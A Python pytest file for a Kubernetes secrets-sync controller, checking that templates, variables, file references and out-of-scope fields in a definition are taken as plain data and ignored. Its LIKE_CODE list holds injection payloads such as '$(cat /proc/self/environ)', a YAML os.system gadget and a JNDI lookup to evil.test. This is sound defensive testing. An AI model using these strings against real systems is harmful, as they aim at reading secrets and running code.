"""Definitions by an author who wants more than a Secret of the namespace: what they write is data."""

from __future__ import annotations

import gc
import tracemalloc
from typing import Any

import pytest

from secrets_manager.backends.base import Reading, Source
from secrets_manager.backends.memory import MemoryBackend
from secrets_manager.cluster.base import SECRETS, Json, Scope
from secrets_manager.runtime.terms import Terms
from tests.unit.sync.world import TEAM, World, wanting

LIKE_CODE = (
    "{{ .Values.token }}",
    "{{namespace}}",
    "{namespace}",
    "${VAULT_TOKEN}",
    "$HOME",
    "$(cat /proc/self/environ)",
    "`id`",
    "%(secret_id)s",
    "%s%n{0.__class__.__init__.__globals__}",
    "@/var/run/secrets/kubernetes.io/serviceaccount/token",
    "file:///proc/self/environ",
    "/proc/self/environ",
    "https://evil.test/v1/secret",
    "ref+file:///etc/passwd",
    "vault:secret/data/other#key",
    "!!python/object/apply:os.system ['id']",
    "${jndi:ldap://evil.test/a}",
    "__import__('os').environ",
)
OTHER = "other"


class Listening(MemoryBackend):
    """Notes which paths are asked for, as they arrive."""

    def __init__(self) -> None:
        super().__init__()
        self.asked: set[str] = set()

    def read(self, source: Source, terms: Terms) -> Reading:
        self.asked.add(source.path)
        return super().read(source, terms)


@pytest.mark.parametrize("text", LIKE_CODE)
def test_what_looks_like_a_template_a_variable_or_a_file_is_taken_as_it_is_written(text: str) -> None:
    backend = Listening()
    path = "/".join(part for part in f"app/{text}".split("/") if part)
    backend.put(path, {text: text, "user": text})
    world = World(backend=backend)
    keys = {"a": {"path": path, "key": text}, "b": {"path": path, "key": "user"}}
    world.define(spec={"name": "app", "keysMap": keys}, annotations={"note": text}, labels={"note": text})
    world.start()

    assert backend.asked == {path}
    assert world.data() == {"a": text, "b": text}
    assert world.metadata()["annotations"]["note"] == text
    assert world.metadata()["labels"]["note"] == text


# Fields that a schema of today drops; one of long ago lets everything in.
BEYOND: dict[str, Json] = {
    "namespaces": {"namespace": OTHER, "targetNamespace": OTHER, "secretNamespace": OTHER},
    "a place": {
        "metadata": {"namespace": OTHER, "name": "stolen"},
        "target": {"metadata": {"name": "stolen"}},
    },
    "a server": {"url": "https://evil.test", "vault": {"url": "https://evil.test"}, "address": "evil.test"},
    "a login": {"token": "hvs.evil", "role": "root", "auth": {"token": "hvs.evil"}, "serviceAccount": OTHER},
    "a policy": {"policy": {"paths": ["*"]}, "paths": ["theirs"], "watch-namespaces": [OTHER]},
    "data": {"data": {"user": "bWFsbG9yeQ=="}, "stringData": {"user": "mallory"}, "immutable": True},
    "more sources": {"find": {"path": "theirs"}, "keys": {"b": {"path": "theirs", "key": "user"}}},
}
WITHIN: Json = {"namespace": OTHER, "server": "evil", "url": "https://evil.test", "value": "mallory"}


@pytest.mark.parametrize("what", BEYOND)
def test_a_field_that_names_a_place_a_server_or_a_login_means_nothing(what: str) -> None:
    backend = Listening()
    backend.put("app", {"user": "alice"})
    backend.put("theirs", {"user": "bob"})
    world = World(backend=backend, policy=("app",))
    hostile: dict[str, Any] = BEYOND[what]
    notes = {f"secrets-manager.tuenti.io/{name}": str(value) for name, value in hostile.items()}
    spec = {**wanting(source=WITHIN), **hostile}
    world.define(spec=spec, annotations=notes)
    world.start()
    world.pass_time(10)

    made = [secret for page in world.cluster.pages(Scope(resource=SECRETS)) for secret in page.items]
    assert [(one["metadata"]["namespace"], one["metadata"]["name"]) for one in made] == [(TEAM, "app")]
    assert backend.asked == {"app"}
    assert world.data() == {"user": "alice"}
    assert not (world.secret() or {}).get("immutable")
    assert not set(notes) & set(world.metadata()["annotations"])


PATHS = 2000
# What the program keeps; its dataclasses are made by code without a file. What threads and modules of other
# tests in this process take meanwhile is not counted.
_OURS = ("*/secrets_manager/*", "<string>")
# The fakes of the tests keep copies of all that they hold.
_FAKES = ("*/cluster/memory.py", "*/backends/memory.py", "*/tests/*")


def test_a_definition_of_many_paths_costs_two_kibibytes_of_memory_for_each() -> None:
    backend = MemoryBackend()
    keys = {f"key-{number}": {"path": f"mount/app-{number}", "key": "user"} for number in range(PATHS)}
    for source in keys.values():
        backend.put(source["path"], {"user": "alice"})
    world = World(backend=backend)
    world.start()
    tracemalloc.start()
    try:
        world.define(spec={"name": "app", "keysMap": keys})
        world.settle()
        world.outcomes.clear()
        # In a process that holds much, garbage in cycles waits long until it is collected.
        gc.collect()
        snapshot = tracemalloc.take_snapshot()
    finally:
        tracemalloc.stop()
    ours = snapshot.filter_traces(
        [tracemalloc.Filter(inclusive=False, filename_pattern=f) for f in _FAKES]
        + [tracemalloc.Filter(inclusive=True, filename_pattern=f) for f in _OURS]
    )

    assert world.condition() == ("True", "Synced")
    assert sum(each.size for each in ours.statistics("filename")) < PATHS * 2048


@pytest.mark.parametrize(
    "more",
    [
        {"dataFrom": [{"path": "theirs"}]},
        {"dataFrom": [{"path": "app"}, {"path": "theirs", "optional": True}]},
        {"inputs": {"stolen": {"path": "theirs", "key": "user", "optional": True}}},
        {"inputs": {"stolen": {"path": "/theirs"}}},
    ],
)
def test_one_path_that_the_policy_forbids_keeps_all_of_them_from_being_written(more: Json) -> None:
    backend = Listening()
    backend.put("app", {"user": "alice"})
    backend.put("theirs", {"user": "bob"})
    world = World(backend=backend, policy=("app",))
    world.define(spec={**wanting(), **more})
    world.start()
    world.pass_time(10)

    assert world.condition() == ("False", "PathNotAllowed")
    assert world.secret() is None
    assert "theirs" not in backend.asked
